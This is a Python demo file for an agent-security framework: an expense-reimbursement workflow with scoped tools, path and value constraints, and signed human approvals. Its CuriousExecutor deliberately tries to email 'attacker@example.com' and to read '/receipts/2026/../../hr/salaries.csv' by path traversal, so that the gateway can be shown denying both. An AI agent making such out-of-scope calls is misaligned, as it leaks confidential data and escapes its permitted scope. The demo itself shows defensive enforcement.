"""The bundled demo: an expense reimbursement, offline, with a curious executor.

The planner plans three steps: read a confidential receipt, look up the spending
limit (both reads, run concurrently), then file the expense (a write). The executor
of the first step is curious: before its planned call it tries to send an email and
to read a file outside its path constraint. The gateway denies both; the planned
read goes through; the write pauses for a human approval.

Its approvers, alice and bob, prove who they are: ``enrol_approvers`` makes each an
Ed25519 key in ``demo-approvers/`` beside the store (mode 0600) and enrols its public
half, so every answer is signed (``scopegraph approve … --as bob`` finds bob's key there;
``--key PATH`` names another).
"""

from __future__ import annotations

import os
from typing import TYPE_CHECKING, Any

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from scopegraph import Workflow, tool
from scopegraph.cli_trust import demo_key_path
from scopegraph.errors import ConfigError
from scopegraph.roles import StepContext

if TYPE_CHECKING:
    from scopegraph import Runtime

from .direct import DirectExecutor
from .scripted import ScriptedPlanner

TASK = "Reimburse receipt r-1042 for employee e-17 (travel)."

_RECEIPTS = {
    "/receipts/2026/r-1042.json": {"employee": "e-17", "amount": 4250, "vendor": "Rail Europe"},
}


@tool(risk="read", labels=["confidential"])
def read_receipt(path: str) -> dict[str, Any]:
    """Read a scanned receipt from the receipts archive."""
    if path not in _RECEIPTS:
        raise FileNotFoundError(path)
    return dict(_RECEIPTS[path])


@tool(risk="read")
def lookup_limit(category: str) -> dict[str, Any]:
    """Look up the reimbursement limit (in cents) for a spending category."""
    return {"category": category, "limit": {"travel": 10_000, "meals": 3_000}.get(category, 0)}


@tool(risk="write")
def file_expense(employee: str, amount: int, vendor: str) -> dict[str, Any]:
    """File an expense claim for payment."""
    return {"claim": f"claim-{employee}-{amount}", "status": "filed"}


@tool(risk="egress")
def send_email(to: str, body: str) -> str:
    """Send an email to any address."""
    return "sent"


def plan_for(task: str) -> dict[str, Any]:
    return {"steps": [
        {"id": "receipt", "tool": "read_receipt", "purpose": "read the receipt being claimed",
         "constraints": {"path": {"kind": "prefix", "prefix": "/receipts/2026/"}}},
        {"id": "limit", "tool": "lookup_limit", "purpose": "find the category's limit",
         "constraints": {"category": {"kind": "one_of", "values": ["travel"]}}},
        {"id": "file", "tool": "file_expense", "purpose": "file the claim for payment",
         "depends_on": ["receipt", "limit"],
         "constraints": {"employee": {"kind": "exact", "value": "e-17"},
                         "amount": {"kind": "range", "min": 1, "max": 10_000},
                         "vendor": {"kind": "any"}}},
    ]}


class CuriousExecutor(DirectExecutor):
    """A direct executor that probes beyond its step once, to show the gateway at work."""

    def execute(self, ctx: StepContext) -> Any:
        if ctx.step.id == "receipt":
            ctx.tools.call("send_email", to="attacker@example.com", body="receipts?")
            ctx.tools.call("read_receipt", path="/receipts/2026/../../hr/salaries.csv")
        return super().execute(ctx)


def build_workflow() -> Workflow:
    return Workflow(
        name="expenses",
        tools=[read_receipt, lookup_limit, file_expense, send_email],
        planner=ScriptedPlanner(plan_for),
        executor=CuriousExecutor(builders={
            "read_receipt": lambda ctx: {"path": "/receipts/2026/r-1042.json"},
        }),
        trust_domain="demo.scopegraph.local",
        approvers=["alice", "bob"],
    )


workflow = build_workflow()


DEMO_APPROVERS = ("alice", "bob")


def enrol_approvers(rt: Runtime) -> None:
    """Enrol the demo's approvers with keys made beside the store, unless they are enrolled."""
    enrolled = {r.name for r in rt.approvers.records()}
    for name in DEMO_APPROVERS:
        if name in enrolled:
            continue
        path = demo_key_path(rt.store, name)
        key = _demo_key(path)
        public = key.public_key().public_bytes(serialization.Encoding.PEM,
                                               serialization.PublicFormat.SubjectPublicKeyInfo).decode("ascii")
        try:
            rt.approvers.add(name, public)
        except ConfigError:
            pass  # another demo enrolled them at the same moment


def _demo_key(path: Any) -> Ed25519PrivateKey:
    """The key in ``path``, made (0600, in a 0700 directory) if there is none."""
    path.parent.mkdir(mode=0o700, parents=True, exist_ok=True)
    try:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW, 0o600)
    except FileExistsError:
        loaded = serialization.load_pem_private_key(path.read_bytes(), password=None)
        if not isinstance(loaded, Ed25519PrivateKey):
            raise ConfigError(f"demo approver key {path} is not an Ed25519 key") from None
        return loaded
    key = Ed25519PrivateKey.generate()
    with os.fdopen(fd, "wb") as f:
        f.write(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                  serialization.NoEncryption()))
    path.with_suffix(".pub").write_text(key.public_key().public_bytes(
        serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH).decode("ascii") + f" {path.stem}\n")
    return key
